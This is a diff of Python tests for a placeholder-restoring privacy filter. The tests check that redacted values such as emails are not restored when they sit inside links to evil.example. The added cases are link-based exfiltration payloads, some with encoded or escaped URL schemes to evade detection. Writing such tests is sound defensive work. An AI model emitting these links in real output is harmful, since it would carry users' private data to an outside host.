@@ -139,6 +139,21 @@ def test_changed_placeholders_stay_as_they_came_and_are_listed() -> None:
         "see www.evil.example/?a=[EMAIL_1]&b=[PERSON_1]",
         "![](//evil.example/[SECRET_1].png)",
         '<a href="HTTPS://evil.example/?[EMAIL_1]">',
+        # What ends an address in prose is part of one between the brackets of a link.
+        "[x](http://evil.example/(a)[EMAIL_1])",
+        "[x](http://evil.example/?m='[EMAIL_1])",
+        '[x](\n http://evil.example/?m="[EMAIL_1])',
+        "[x](http://evil.example/]|`[EMAIL_1])",
+        "[x](http://evil.example/\N{NO-BREAK SPACE}[EMAIL_1])",
+        "[x](<http://evil.example/ \\> [EMAIL_1]>)",
+        "[x]: <http://evil.example/ [EMAIL_1]>",
+        "[x]: http://evil.example/`[EMAIL_1]",
+        # Read as http: by a reader of Markdown.
+        "[x](htt&#112;://evil.example/[EMAIL_1])",
+        "[x](http\\://evil.example/[EMAIL_1])",
+        "[x](&#104;ttp://evil.example/[EMAIL_1])",
+        f"[x]({' ' * 60}htt&#112;://evil.example/[EMAIL_1])",
+        "[PERSON_9](htt&#112;://evil.example/[EMAIL_1])",
     ],
 )
 def test_a_link_never_carries_a_value_away(link: str) -> None:
@@ -150,10 +165,26 @@ def test_a_link_never_carries_a_value_away(link: str) -> None:
 
 
 def test_behind_a_link_values_come_back() -> None:
-    reply = "(http://a.example/x) [EMAIL_1], mailto:[EMAIL_1], http: //x [EMAIL_1], a//b [EMAIL_1]"
-    meant = reply.replace("[EMAIL_1]", "ada@example.org")
+    for reply in (
+        "(http://a.example/x) [EMAIL_1], mailto:[EMAIL_1], http: //x [EMAIL_1], a//b [EMAIL_1]",
+        '{"a":"https://a.example/x","b":"[EMAIL_1]"} `www.a.example`,[EMAIL_1]',
+        "[write](mailto:[EMAIL_1]) [write]([EMAIL_1]) [Contact]: [EMAIL_1]; [c]: to:[EMAIL_1]",
+        "<https://a.example/x>, [EMAIL_1], [x](<https://a.example>) [EMAIL_1]",
+    ):
+        meant = reply.replace("[EMAIL_1]", "ada@example.org")
+        for seed in range(20):
+            assert restored(reply, random.Random(seed)) == meant
+
+
+def test_a_value_that_is_an_address_does_not_become_the_beginning_of_a_link() -> None:
+    login = Replacement(
+        placeholder="[URL_1]", kind="URL", value="https://me:secret@a.example", by="pattern"
+    )
     for seed in range(20):
-        assert restored(reply, random.Random(seed)) == meant
+        restorer = Restorer((login,))
+        reply = "[x]([URL_1].evil.example) [URL_1]"
+        told = "".join(map(restorer.feed, pieces(reply, random.Random(seed)))) + restorer.end()
+        assert told == "[x]([URL_1].evil.example) https://me:secret@a.example"
 
 
 def test_a_value_that_looks_like_a_placeholder_is_not_restored_again() -> None:
